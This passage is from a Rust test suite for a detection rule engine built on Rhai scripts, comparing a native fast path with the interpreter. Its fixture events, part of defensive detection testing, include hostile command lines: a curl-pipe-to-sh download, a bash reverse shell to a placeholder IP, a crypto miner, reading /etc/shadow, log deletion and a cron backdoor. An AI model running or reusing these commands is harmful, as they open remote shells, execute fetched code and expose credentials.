        assert!(check(upper, "ABC"));
        // Unchanged, but a function's result all the same: Rhai checks its size.
        assert!(!check(upper, "ABCDEFGHIJ"));
        assert!(!check(r#"if event.s + "xyz" == "" { return; }"#, "abcdefg"));
        assert!(!check(
            r#"if event.s.split(".").len() == 0 { return; }"#,
            "a.b.c"
        ));
        assert!(check(
            r#"if event.s.split(".").len() == 0 { return; }"#,
            "a.b"
        ));
    }

    #[test]
    fn loops_and_assignments_run_natively_within_the_operation_limit() {
        let rule = r#"let labels = event.q.split(".");
            let n = labels.len();
            let suffix = labels[n - 1];
            for i in 1..=n {
                if suffix == "bad.example" { emit(); return; }
                if i < n { suffix = labels[n - 1 - i] + "." + suffix; }
            }"#;
        assert!(quiet(rule, json!({"q": "a.b.good.example"})));
        assert!(
            !quiet(rule, json!({"q": "a.b.bad.example"})),
            "emit is Rhai's"
        );
        let limits = Limits {
            max_operations: 2_000,
            ..Limits::default()
        };
        let spin = compiled("let x = 0; for i in 0..event.n { x = i; }", &limits).expect("fast");
        let host = HostData::default();
        let run = |n: i64| verdict(&spin, &json!({"n": n}), &host);
        assert!(run(10));
        assert!(!run(1_000), "near the operation limit Rhai decides");
    }

    #[test]
    fn no_fast_path_when_it_could_never_finish_or_cannot_be_trusted() {
        let limits = Limits::default();
        assert!(
            compiled("emit();", &limits).is_none(),
            "opaque from the start"
        );
        assert!(
            compiled("for i in 0..event.n { emit(); }", &limits).is_some(),
            "may run 0 times"
        );
        assert!(compiled("loop { return; }", &limits).is_none());
        assert!(compiled("let x = 1; emit();", &limits).is_none());
        assert!(compiled("if event.a == 1 { return; } emit();", &limits).is_some());
        assert!(
            compiled(
                "fn glob(a, b) { true } if glob(event.a, \"*\") { return; }",
                &limits
            )
            .is_none(),
            "script functions may shadow the native ones"
        );
        let tight = Limits {
            max_operations: 10,
            ..Limits::default()
        };
        assert!(
            compiled("if event.a == 1 { return; } emit();", &tight).is_none(),
            "Rhai could run out of operations where the fast path would not"
        );
    }

    // --- The whole core pack, with and without the fast path, on the same events ---

    fn pack_dir() -> std::path::PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/core")
    }

    fn core_engine(fast: bool, windows: bool) -> RuleEngine {
        let mut engine = RuleEngine::new(Limits::default()).expect("limits");
        engine.set_fast_path(fast);
        let mut specs = Vec::new();
        for entry in std::fs::read_dir(pack_dir()).expect("rules/core") {
            let path = entry.expect("entry").path();
            if path.extension().is_some_and(|e| e == "rhai") {
                let source = std::fs::read_to_string(&path).expect("rule");
                if !windows && source.contains("window_") {
                    continue;
                }
                specs.push(RuleSpec {
                    id: path.file_stem().unwrap().to_string_lossy().into_owned(),
                    source,
                    // Every rule sees every kind: fields of other kinds are missing.
                    kinds: None,
                    capabilities: vec!["enrich".into()],
                    ..RuleSpec::default()
                });
            }
        }
        specs.sort_by(|a, b| a.id.cmp(&b.id));
        engine.replace_all(specs).expect("core pack compiles");
        for entry in std::fs::read_dir(pack_dir().join("lists")).expect("lists") {
            let path = entry.expect("entry").path();
            let text = std::fs::read_to_string(&path).expect("list");
            let values = text
                .lines()
                .map(str::trim)
                .filter(|l| !l.is_empty() && !l.starts_with('#'))
                .map(str::to_string)
                .collect();
            let name = path.file_stem().unwrap().to_string_lossy().into_owned();
            engine.set_list(name, values);
        }
        let intel = [(
            "203.0.113.7".to_string(),
            rhai::serde::to_dynamic(json!({"reputation": "malicious", "feed": "t"})).unwrap(),
        )]
        .into_iter()
        .collect();
        engine.set_enrichment("ip".into(), intel);
        engine
    }

    fn base_events() -> Vec<Value> {
        let host = json!({"id": "h-1", "name": "web-1"});
        let ts = "2026-12-03T08:00:00Z";
        let proc = |action: &str, exe: &str, cmd: &str, parent: &str| {
            json!({"kind": "proc", "ts": ts, "host": host, "proc": {"action": action,
                   "exe": exe, "cmdline": cmd, "parent_exe": parent, "user": "www-data", "pid": 5}})
        };
        let file = |action: &str, path: &str, exe: &str| {
            json!({"kind": "file", "ts": ts, "host": host, "file": {"action": action,
                   "path": path, "new_path": format!("{path}.locked"), "exe": exe, "size": 0}})
        };
        let net = |ip: &str, port: i64| {
            json!({"kind": "net", "ts": ts, "host": host, "net": {"action": "connect",
                   "dst_ip": ip, "dst_port": port, "exe": "/usr/bin/python3"}})
        };
        let dns = |query: &str, qtype: &str| {
            json!({"kind": "dns", "ts": ts, "host": host, "dns": {"query": query,
                   "qtype": qtype, "answers": ["1.2.3.4"]}})
        };
        let auth = |action: &str, user: &str| {
            json!({"kind": "auth", "ts": ts, "host": host, "auth": {"action": action,
                   "user": user, "src_ip": "198.51.100.9"}})
        };
        vec![
            proc(
                "exec",
                "/usr/bin/curl",
                "curl -s http://x.example/a | sh",
                "/bin/bash",
            ),
            proc(
                "exec",
                "/bin/bash",
                "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
                "/usr/sbin/nginx",
            ),
            proc(
                "exec",
                "/tmp/.x/xmrig",
                "xmrig -o stratum+tcp://pool:3333 --donate-level 1",
                "/bin/sh",
            ),
            proc("exec", "/usr/bin/cat", "cat /etc/shadow", "/bin/bash"),
            proc("exec", "/usr/bin/ls", "ls -la", "/bin/bash"),
            proc("exec", "/bin/sh", "sh -c 'history -c'", "/usr/sbin/nginx"),
            proc("exit", "/usr/bin/ls", "ls", "/bin/bash"),
            file("create", "/etc/cron.d/backdoor", "/usr/bin/vim"),
            file("rename", "/home/a/doc.txt", "/tmp/enc"),
            file("create", "/home/a/README_RESTORE_FILES.txt", "/tmp/enc"),
            file("delete", "/var/log/auth.log", "/usr/bin/rm"),
            file("modify", "/var/log/syslog", "/usr/sbin/rsyslogd"),
            file("modify", "/home/a/notes", "/usr/bin/vim"),
            net("203.0.113.7", 443),
            net("198.51.100.3", 3333),
            net("10.0.0.8", 4444),
            json!({"kind": "net", "ts": ts, "host": host, "net": {"action": "flow", "dst_ip": "10.0.0.1", "dst_port": 53}}),
            dns("a.b.update-cdn.example", "A"),
            dns("qz3x9vbn4m2k8l7j6h5g4f3d2s1a0pqw.tunnel.example", "TXT"),
            dns(&format!("{}.long.example", "a".repeat(120)), "A"),
            dns("github.com", "AAAA"),
            auth("failure", "root"),
            auth("login", "root"),
            auth("sudo", "mallory"),
            auth("sudo", "root"),
            auth("logout", "root"),
        ]
    }

    /// Every event, then for each of its leaves: removed, null, a number, a string, a map.
    fn mutations(event: &Value) -> Vec<Value> {
        let mut out = vec![event.clone()];
        let Value::Object(top) = event else {
            return out;
        };
        for (key, value) in top {
            let replacements = [
                json!(null),
                json!(7),
                json!("x"),
                json!({"a": 1}),
                json!([]),
            ];
            for r in &replacements {
                let mut e = event.clone();
                e[key] = r.clone();
                out.push(e);
            }
            let mut e = event.clone();
            e.as_object_mut().unwrap().remove(key);
            out.push(e);
            if let Value::Object(inner) = value {
                for field in inner.keys() {
                    for r in replacements
                        .iter()
                        .chain([&json!(""), &json!(-1), &json!(true)])
                    {
                        let mut e = event.clone();
                        e[key][field] = r.clone();
                        out.push(e);
                    }
                    let mut e = event.clone();
                    e[key].as_object_mut().unwrap().remove(field);
                    out.push(e);
                }
            }
        }
        out
    }

    /// Per rule: (id, evaluations, matches, failures).
    fn counts(engine: &RuleEngine) -> Vec<(String, u64, u64, u64)> {
        engine
            .stats()
            .into_iter()
            .map(|(id, s)| (id, s.evals, s.matches, s.failures))
            .collect()
    }

    fn summary(out: &BatchOutcome) -> String {
        format!(
            "{:?}\n{:?}\n{:?}\n{}",
            out.matches, out.failures, out.parse_errors, out.events
        )
    }

    fn differential(windows: bool) {
        let mut lines = Vec::new();
        for event in base_events() {
            for e in mutations(&event) {
                lines.push(serde_json::to_vec(&e).unwrap());
            }
        }
        lines.push(b"{not json".to_vec());
        lines.push(b"[1, 2]".to_vec());
        let mut fast = core_engine(true, windows);
        let mut slow = core_engine(false, windows);
        let rules = fast.rules().len();
        assert!(
            fast.fast_paths() + 1 >= rules,
            "all but dns_bad_domain have a fast path"
        );
        let mut matched = 0;
        for chunk in lines.chunks(97) {
            let data = chunk.join(&b'\n');
            let (a, b) = (fast.evaluate_jsonl(&data), slow.evaluate_jsonl(&data));
            assert_eq!(summary(&a), summary(&b));
            matched += a.matches.len();
        }
        assert_eq!(counts(&fast), counts(&slow));
        let native: u64 = fast.stats().iter().map(|(_, s)| s.native).sum();
        let evals: u64 = fast.stats().iter().map(|(_, s)| s.evals).sum();
        assert!(matched > 20, "the corpus raises alerts ({matched})");
        // Rules see every kind here, and a chain through a missing map is Rhai's to report.
        assert!(
            native * 8 > evals,
            "evaluations decided natively: {native} of {evals}"
        );
        assert_eq!(slow.stats().iter().map(|(_, s)| s.native).sum::<u64>(), 0);
    }

    /// Window calls made natively, including those Rhai then replays when it takes over
    /// part-way (an `emit`, a map literal, `%`), leave the same state and results.
    #[test]
    fn windows_agree_with_and_without_the_fast_path() {
        let rules = [
            r#"window_push(event.k); let n = window_count(event.k, 10);
               if n == 3 { emit(#{ context: #{ n: n } }); }"#,
            r#"let d = window_distinct(event.k, event.v, 10);
               if d >= 2 && event.v == "x" { emit(#{ context: #{ d: d } }); }"#,
            r#"window_push(event.k); let c = window_count(event.k, 5.5);
               if c > 1 { let m = #{ a: c }; } if event.v == "y" { emit(); }"#,
            r#"window_push("a"); window_push(event.k); let c = window_count("a", 100);
               let d = window_distinct(event.k, event.n, 100);
               if event.v != "w" { return; }
               if c % 2 == 0 { emit(#{ context: #{ c: c, d: d } }); }"#,
            r#"if event.v == "z" { return; } window_push(event.n);
               let c = window_count(event.n, 3); if c > 2 { emit(); }"#,
        ];
        let engine = |fast: bool| {
            let mut e = RuleEngine::new(Limits::default()).expect("limits");
            e.set_fast_path(fast);
            let specs = rules
                .iter()
                .enumerate()
                .map(|(i, source)| RuleSpec {
                    id: format!("w{i}"),
                    source: source.to_string(),
                    ..RuleSpec::default()
                })
                .collect();
            e.replace_all(specs).expect("compiles");
            e
        };
        let (mut fast, mut slow) = (engine(true), engine(false));
        assert_eq!(fast.fast_paths(), rules.len());
        let mut lines = Vec::new();
        for i in 0..600u32 {
            let ts = match i % 97 {
                13 => json!(null),
                14 => json!("not a time"),
                // Out of order now and then.
                15 => json!(format!("2026-12-01T00:00:{:02}Z", (i / 10) % 60)),
                _ => json!(format!(
                    "2026-12-01T00:{:02}:{:02}.5Z",
                    i / 120,
                    (i / 2) % 60
                )),
            };
            let k = ["a", "b", "c"][(i % 7 % 3) as usize];
            let v = ["x", "y", "z", "w"][(i * 7 % 11 % 4) as usize];
            lines.push(serde_json::to_vec(&json!({"ts": ts, "k": k, "v": v, "n": i % 5})).unwrap());
        }
        let mut matched = 0;
        for chunk in lines.chunks(41) {
            let data = chunk.join(&b'\n');
            let (a, b) = (fast.evaluate_jsonl(&data), slow.evaluate_jsonl(&data));
            assert_eq!(summary(&a), summary(&b));
            matched += a.matches.len();
        }
        assert!(matched > 100, "thresholds are crossed ({matched})");
        let stats = fast.stats();
        for (id, s) in &stats {
            assert!(s.native > 0 && s.native < s.evals, "{id}: {s:?}");
        }
        assert_eq!(counts(&fast), counts(&slow));
    }

    #[test]
    fn the_core_pack_gives_the_same_results_with_and_without_the_fast_path() {
        differential(true);
    }

    #[test]
    fn the_stateless_core_rules_agree_event_by_event() {
        // Without window rules each event's outcome depends on that event alone.
        differential(false);
    }
}
